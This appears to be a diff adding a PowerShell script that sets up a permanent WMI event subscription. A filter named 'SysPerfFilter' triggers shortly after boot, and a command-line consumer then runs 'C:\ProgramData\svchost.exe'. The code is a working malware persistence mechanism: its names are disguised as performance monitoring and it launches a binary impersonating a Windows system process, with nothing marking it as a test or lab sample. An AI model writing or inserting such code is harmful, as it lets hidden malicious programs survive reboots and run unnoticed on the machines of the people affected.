@@ -1,0 +1,17 @@
+$filterArgs = @{
+    Name           = 'SysPerfFilter'
+    EventNamespace = 'root\cimv2'
+    QueryLanguage  = 'WQL'
+    Query          = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240"
+}
+$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments $filterArgs
+
+$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{
+    Name                = 'SysPerfConsumer'
+    CommandLineTemplate = 'C:\ProgramData\svchost.exe'
+}
+
+Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{
+    Filter   = $filter
+    Consumer = $consumer
+} | Out-Null
